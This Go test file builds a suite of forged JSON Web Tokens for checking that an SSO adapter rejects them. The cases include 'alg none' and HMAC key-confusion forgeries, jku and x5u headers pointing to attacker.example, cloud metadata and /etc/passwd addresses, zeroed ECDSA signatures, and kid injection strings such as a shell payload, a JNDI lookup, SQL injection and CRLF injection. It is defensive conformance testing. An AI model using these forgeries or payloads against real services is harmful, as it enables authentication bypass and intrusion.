package adaptertest

import (
	"bytes"
	"crypto"
	"crypto/ecdsa"
	"crypto/rsa"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"slices"
	"strings"

	"github.com/more-retail/moresso-go/core/devissuer"
)

// algorithmAttacks choose the algorithm by which the token is verified.
func algorithmAttacks() []Attack {
	l := &attacks{group: "algorithm", source: "RFC 8725, section 3.1; CVE-2015-9235"}
	for _, name := range []string{"none", "None", "NONE", "nOnE", "none ", "", "null"} {
		l.token(fmt.Sprintf("unsigned, %q", name), "A token without a signature proves nothing, however its algorithm is spelled.", unsigned(name)).
			from("RFC 8725, section 3.2; CVE-2015-9235, CVE-2020-28042")
		l.token(fmt.Sprintf("%q with another signature", name), "Without an algorithm nothing is verified; the signature does not matter.",
			withSignature(func([]byte) []byte { return []byte("x") }, devissuer.Header("alg", name))).from("RFC 8725, section 3.2")
	}
	l.minted("missing", "The header must name the algorithm.", devissuer.WithoutHeader("alg")).from("RFC 7515, section 4.1.1")
	for _, value := range []string{"null", "1", "true", `["RS256"]`, `{"RS256":1}`} {
		l.minted("of type "+kindOfJSON(value), "alg is a string.", devissuer.Header("alg", json.RawMessage(value))).from("RFC 7515, section 4.1.1")
	}
	for _, name := range []string{"rs256", "RS256 ", "RS256\x00", "RSA256", "SHA256withRSA", "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"} {
		l.minted(fmt.Sprintf("true signature as %q", name), "Names of algorithms match exactly.", devissuer.Header("alg", name)).from("RFC 7515, section 4.1.1").by("RS256")
	}

	confusion := "With a public key as the secret of an HMAC, any attacker can sign."
	pem := func(i *devissuer.Issuer) []byte { return i.PublicPEM() }
	l.token("HS256 with the PEM", confusion, hmacToken("HS256", crypto.SHA256, pem))
	l.token("HS384 with the PEM", confusion, hmacToken("HS384", crypto.SHA384, pem))
	l.token("HS512 with the PEM", confusion, hmacToken("HS512", crypto.SHA512, pem))
	l.token("HS256 with the PEM, typ at+jwt", confusion, hmacToken("HS256", crypto.SHA256, pem, devissuer.Header("typ", "at+jwt")))
	l.token("hs256 with the PEM", confusion, hmacToken("hs256", crypto.SHA256, pem))
	l.token("HMAC under the key's algorithm", confusion, func(i *devissuer.Issuer) string {
		return hmacToken(i.Algorithm(), crypto.SHA256, pem)(i)
	})
	for name, secret := range map[string]func(*devissuer.Issuer) []byte{
		"the PEM without its last line break": func(i *devissuer.Issuer) []byte { return bytes.TrimSpace(i.PublicPEM()) },
		"the PEM in DOS lines":                func(i *devissuer.Issuer) []byte { return bytes.ReplaceAll(i.PublicPEM(), []byte("\n"), []byte("\r\n")) },
		"the DER":                             publicDER,
		"the DER in base64":                   func(i *devissuer.Issuer) []byte { return []byte(base64.StdEncoding.EncodeToString(publicDER(i))) },
		"the JWK":                             published,
		"the JWK set":                         func(i *devissuer.Issuer) []byte { return i.JWKS() },
		"the key id":                          func(i *devissuer.Issuer) []byte { return []byte(i.KeyID()) },
		"the audience":                        func(i *devissuer.Issuer) []byte { return []byte(audience(i)) },
		"no secret":                           func(*devissuer.Issuer) []byte { return nil },
	} {
		l.token("HS256 with "+name, confusion, hmacToken("HS256", crypto.SHA256, secret))
	}
	sortByName(l.list) // maps have no order
	modulus := func(i *devissuer.Issuer) []byte { return rsaKey(i).N.Bytes() }
	l.token("HS256 with the modulus", confusion, hmacToken("HS256", crypto.SHA256, modulus)).by("RS256")
	l.token("HS256 with the modulus in base64url", confusion, hmacToken("HS256", crypto.SHA256, func(i *devissuer.Issuer) []byte { return []byte(encoded(modulus(i))) })).by("RS256")
	l.token("HS256 with the point", confusion, hmacToken("HS256", crypto.SHA256, func(i *devissuer.Issuer) []byte {
		private := private(i).(*ecdsa.PrivateKey) //nolint:errcheck // an ES256 issuer has no other
		point, _ := private.PublicKey.Bytes()
		return point
	})).by("ES256")

	other := "A key is for the algorithm that it was published for."
	for _, name := range []string{"RS384", "RS512", "PS256", "PS384", "PS512"} {
		l.token(name+" by an RS256 key", other, signedAs(name, name)).by("RS256")
	}
	l.minted("PS256 in the header, RS256 in truth", other, devissuer.Header("alg", "PS256")).by("RS256")
	l.token("RS256 in the header, PS256 in truth", other, signedAs("PS256", "RS256")).by("RS256")
	l.token("RS256 in the header, RS512 in truth", other, signedAs("RS512", "RS256")).by("RS256")
	l.minted("ES256 in the header, RS256 in truth", other, devissuer.Header("alg", "ES256")).by("RS256")
	l.minted("EdDSA in the header, RS256 in truth", other, devissuer.Header("alg", "EdDSA")).by("RS256")
	l.minted("RS256 in the header, ES256 in truth", other, devissuer.Header("alg", "RS256")).by("ES256")
	l.minted("ES384 in the header, ES256 in truth", "Each ECDSA algorithm has one curve.", devissuer.Header("alg", "ES384")).from("RFC 7518, section 3.4").by("ES256")
	l.minted("ES256K in the header, ES256 in truth", "Each ECDSA algorithm has one curve.", devissuer.Header("alg", "ES256K")).from("RFC 8812, section 3.2").by("ES256")
	l.token("SHA-1 under RS256", "The hash is that of the algorithm.", rsaSigned(signSHA1)).from("RFC 8725, section 3.2").by("RS256")
	l.token("an unknown one, unsigned", "An unknown algorithm proves nothing.", unsigned("XS256")).from("RFC 7515, section 5.2")
	return l.list
}

func kindOfJSON(value string) string {
	return map[byte]string{'n': "null", 't': "boolean", 'f': "boolean", '[': "array", '{': "object", '"': "string"}[value[0]] +
		map[bool]string{true: "number"}[value[0] == '-' || value[0] >= '0' && value[0] <= '9']
}

// embeddedKeyAttacks bring their own key, or its address.
func embeddedKeyAttacks() []Attack {
	l := &attacks{group: "embedded key", source: "RFC 8725, section 3.10; CVE-2018-0114"}
	rule := "A token does not choose its key, and does not cause a request."
	kid := func(i *devissuer.Issuer) string { return attacker(i.Algorithm()).KeyID() }
	l.token("jwk", rule, func(i *devissuer.Issuer) string { return forged(i, embedded(i), devissuer.Header("kid", kid(i))) })
	l.token("jwk, no kid", rule, func(i *devissuer.Issuer) string { return forged(i, embedded(i), devissuer.WithoutHeader("kid")) })
	l.token("jwk, kid of the issuer's key", rule, func(i *devissuer.Issuer) string { return forged(i, embedded(i)) })
	l.token("jwk that is named as the issuer's key", rule, func(i *devissuer.Issuer) string {
		jwk := bytes.ReplaceAll(published(attacker(i.Algorithm())), []byte(kid(i)), []byte(i.KeyID()))
		return forged(i, devissuer.Header("jwk", json.RawMessage(jwk)))
	})
	l.token("jwk of a secret, HS256", rule, hmacToken("HS256", crypto.SHA256, func(i *devissuer.Issuer) []byte { return i.PublicPEM() },
		devissuer.Header("jwk", map[string]string{"kty": "oct", "k": "AAAA"})))
	for name, address := range map[string]func(*devissuer.Issuer) string{
		"elsewhere":                     func(*devissuer.Issuer) string { return attackerURL + "/jwks.json" },
		"that looks like the issuer's":  func(i *devissuer.Issuer) string { return i.URL() + "@attacker.example/jwks.json" },
		"under the issuer's as a label": func(i *devissuer.Issuer) string { return i.URL() + ".attacker.example/jwks.json" },
		"on the machine itself":         func(*devissuer.Issuer) string { return "http://169.254.169.254/latest/meta-data/" },
		"in a file":                     func(*devissuer.Issuer) string { return "file:///etc/passwd" },
		"that is data": func(i *devissuer.Issuer) string {
			return "data:application/json," + string(attacker(i.Algorithm()).JWKS())
		},
	} {
		l.token("jku "+name, rule, func(i *devissuer.Issuer) string { return forged(i, devissuer.Header("jku", address(i))) }).from("RFC 8725, section 3.10")
		l.token("x5u "+name, rule, func(i *devissuer.Issuer) string {
			return forged(i, devissuer.Header("x5u", address(i)), devissuer.WithoutHeader("kid"))
		}).from("RFC 8725, section 3.10")
	}
	sortByName(l.list) // maps have no order
	l.token("x5c", rule, func(i *devissuer.Issuer) string { return forged(i, devissuer.Header("x5c", []string{certificate(i)})) }).from("RFC 8725, section 3.10")
	l.token("x5c, no kid", rule, func(i *devissuer.Issuer) string {
		return forged(i, devissuer.Header("x5c", []string{certificate(i)}), devissuer.WithoutHeader("kid"))
	}).from("RFC 8725, section 3.10")
	return l.list
}

// signatureAttacks have a signature that does not prove the token.
func signatureAttacks() []Attack {
	l := &attacks{group: "signature", source: "RFC 7515, section 5.2"}
	l.minted("one bit changed", "The signature must be the key's.", devissuer.BadSignature())
	l.token("payload changed afterwards", "The signature is over the payload as it was.", tampered)
	l.token("header changed afterwards", "The signature is over the header as it was.", func(i *devissuer.Issuer) string {
		p := split(i.MustToken())
		p.header = append([]byte{' '}, p.header...)
		return p.String()
	})
	l.token("of another token", "A signature belongs to one token.", func(i *devissuer.Issuer) string {
		p, other := split(i.MustToken()), split(i.MustToken(devissuer.Subject("eve")))
		p.payload = other.payload
		return p.String()
	})
	l.token("one byte short", "A signature has its exact length.", withSignature(func(s []byte) []byte { return s[:len(s)-1] }))
	l.token("half of it", "A signature has its exact length.", withSignature(func(s []byte) []byte { return s[:len(s)/2] }))
	l.token("one byte long", "A signature has its exact length.", withSignature(func(s []byte) []byte { return append(s, 0) }))
	l.token("a zero in front", "A signature has its exact length.", withSignature(func(s []byte) []byte { return append([]byte{0}, s...) }))
	l.token("twice", "A signature has its exact length.", withSignature(func(s []byte) []byte { return append(s, s...) }))
	l.token("all zero", "Zeros are not a signature.", withSignature(func(s []byte) []byte { return make([]byte, len(s)) })).from("CVE-2022-21449")
	l.token("all ones", "A number beyond the modulus or the order is not a signature.", withSignature(func(s []byte) []byte { return bytes.Repeat([]byte{255}, len(s)) }))
	l.token("the number one", "One to any power is one.", withSignature(func(s []byte) []byte { return append(make([]byte, len(s)-1), 1) }))
	l.token("empty", "A token without a signature proves nothing.", withSignature(func([]byte) []byte { return nil })).from("RFC 8725, section 3.2; CVE-2020-28042")
	l.token("of another provider", "Only the configured provider's keys count.", func(i *devissuer.Issuer) string { return forged(i) }).from("RFC 8725, section 3.8")
	l.minted("of an unknown key", "Only the provider's keys count.", devissuer.UnknownKey())

	l.token("without the name of the hash", "PKCS #1 signatures name their hash.", rsaSigned(signWithoutDigestInfo)).from("RFC 8017, section 8.2.2; CVE-2006-4339").by("RS256")
	l.token("PS256 with another salt", "The salt is as long as the hash, and the key is for RS256.", rsaSigned(signOtherSalt, devissuer.Header("alg", "PS256"))).from("RFC 7518, section 3.5").by("RS256")
	l.token("the padded hash itself", "The padded hash is compared after decryption, not as it is sent.", rsaSigned(func(private *rsa.PrivateKey, input string) ([]byte, error) {
		return append(make([]byte, private.Size()-len(input)%64), input[:len(input)%64]...), nil
	})).from("RFC 8017, section 8.2.2").by("RS256")

	l.token("r‖s as DER", "JWS signatures are r followed by s, not ASN.1.", withSignature(asDER)).from("RFC 7518, section 3.4").by("ES256")
	for name, s := range map[string]func([]byte) []byte{
		"r = 0":                     func(s []byte) []byte { return append(make([]byte, 32), s[32:]...) },
		"s = 0":                     func(s []byte) []byte { return append(s[:32:32], make([]byte, 32)...) },
		"r = the order":             func(s []byte) []byte { return append(orderP256.Bytes(), s[32:]...) },
		"s = the order":             func(s []byte) []byte { return append(s[:32:32], orderP256.Bytes()...) },
		"r = s = the order":         func([]byte) []byte { return append(orderP256.Bytes(), orderP256.Bytes()...) },
		"r = s = 1":                 func([]byte) []byte { one := append(make([]byte, 31), 1); return append(one, one...) },
		"in 48 bytes each":          func(s []byte) []byte { z := make([]byte, 16); return slices.Concat(z, s[:32], z, s[32:]) },
		"a byte between r and s":    func(s []byte) []byte { return slices.Concat(s[:32], []byte{0}, s[32:], []byte{0}) },
		"s in front of r":           func(s []byte) []byte { return slices.Concat(s[32:], s[:32]) },
		"r alone":                   func(s []byte) []byte { return s[:32] },
		"DER of zeros":              func([]byte) []byte { return asDER(make([]byte, 64)) },
		"an uncompressed point's 4": func(s []byte) []byte { return append([]byte{4}, s...) },
	} {
		l.token("ES256, "+name, "r and s are between 1 and the order, and have 32 bytes each.", withSignature(s)).from("RFC 7518, section 3.4; CVE-2022-21449").by("ES256")
	}
	sortByName(l.list) // maps have no order
	l.token("EdDSA, S not reduced", "S is below the order of the group, so that a token has one encoding.", withSignature(unreduced)).from("RFC 8032, section 8.4; CVE-2020-36843").by("EdDSA")
	l.token("EdDSA, R = 1 and S = 0", "The neutral element is not a signature.", withSignature(func([]byte) []byte { return append([]byte{1}, make([]byte, 63)...) })).from("RFC 8032, section 5.1.7").by("EdDSA")
	return l.list
}

// keyIDAttacks are about kid, which the attacker chooses.
func keyIDAttacks() []Attack {
	l := &attacks{group: "kid", source: "RFC 7515, section 4.1.4"}
	for _, value := range []string{"1", "true", "[]", `{"a":1}`} {
		l.minted("of type "+kindOfJSON(value), "kid is a string.", devissuer.Header("kid", json.RawMessage(value)))
	}
	l.token("array of the right one", "kid is a string.", func(i *devissuer.Issuer) string { return i.MustToken(devissuer.Header("kid", []string{i.KeyID()})) })
	for name, kid := range map[string]string{
		"of 257 bytes": strings.Repeat("k", 257), "path": "../../../../../../dev/null", "absolute path": "/proc/sys/kernel/randomize_va_space",
		"path and NUL": "../../../../../../dev/null\x00.pem", "SQL": "x' UNION SELECT 'secret' --", "LDAP": "*)(uid=*))(|(uid=*",
		"shell": "$(touch pwned)|/bin/sh", "format verbs": "%s%n%x", "log lookup": "${jndi:ldap://attacker.example/x}",
		"address": attackerURL + "/key.pem", "address of the metadata": "http://169.254.169.254/latest/meta-data/",
		"header injection": "x\r\nSet-Cookie: session=evil\r\n\r\n<html>", "log injection": "x\nlevel=INFO msg=\"sso: authenticated\" subject=root",
		"terminal escapes": "\x1b[2J\x1b]0;owned\x07", "quotes in a challenge": `x", error="none", realm="evil`,
		"right-to-left override": "\u202egnitirw", "NUL": "\x00", "space": " ", "prototype": "__proto__", "keys of a set": "keys.0",
	} {
		l.token(name, "kid is only looked up among the provider's keys, and is escaped in the log.", func(i *devissuer.Issuer) string {
			return forged(i, devissuer.Header("kid", kid))
		}).from("RFC 8725, section 3.10; CVE-2018-0114 class")
	}
	for _, secret := range []string{"../../../../../../dev/null", "x' UNION SELECT '' --"} {
		l.token("HS256 with the empty file, "+secret[:2], "kid opens no file and queries no database, so that no attacker knows the secret.",
			hmacToken("HS256", crypto.SHA256, func(*devissuer.Issuer) []byte { return nil }, devissuer.Header("kid", secret))).from("RFC 8725, section 3.10")
	}
	for name, change := range map[string]func(string) string{
		"in another case":       swapCase,
		"with a trailing space": func(id string) string { return id + " " },
		"with a trailing NUL":   func(id string) string { return id + "\x00" },
		"without its end":       func(id string) string { return id[:len(id)-1] },
		"twice":                 func(id string) string { return id + id },
		"with a path":           func(id string) string { return "./" + id },
	} {
		l.token("right one "+name, "Key ids match exactly.", func(i *devissuer.Issuer) string { return i.MustToken(devissuer.Header("kid", change(i.KeyID()))) })
	}
	sortByName(l.list) // maps have no order
	l.token("another key's", "The key that the token names must prove it; no other is tried.", func(i *devissuer.Issuer) string {
		return i.MustToken(devissuer.Header("kid", otherKey(i)))
	}).from("RFC 8725, section 3.1")
	l.token("empty, another's signature", "An empty key id does not skip the signature.", func(i *devissuer.Issuer) string { return forged(i, devissuer.Header("kid", "")) })
	l.token("missing, another's signature", "A token without a key id still needs a signature of the provider's key.", func(i *devissuer.Issuer) string { return forged(i, devissuer.WithoutHeader("kid")) })
	l.token("the issuer's, another provider's token", "The same key id at two providers is two keys.", func(i *devissuer.Issuer) string {
		return attacker(i.Algorithm()).MustToken(devissuer.Header("kid", i.KeyID()), devissuer.Audience(audience(i)))
	}).from("RFC 8725, section 3.8")
	return l.list
}

func swapCase(s string) string {
	return strings.Map(func(c rune) rune {
		switch {
		case 'a' <= c && c <= 'z':
			return c - 'a' + 'A'
		case 'A' <= c && c <= 'Z':
			return c - 'A' + 'a'
		}
		return c
	}, s)
}
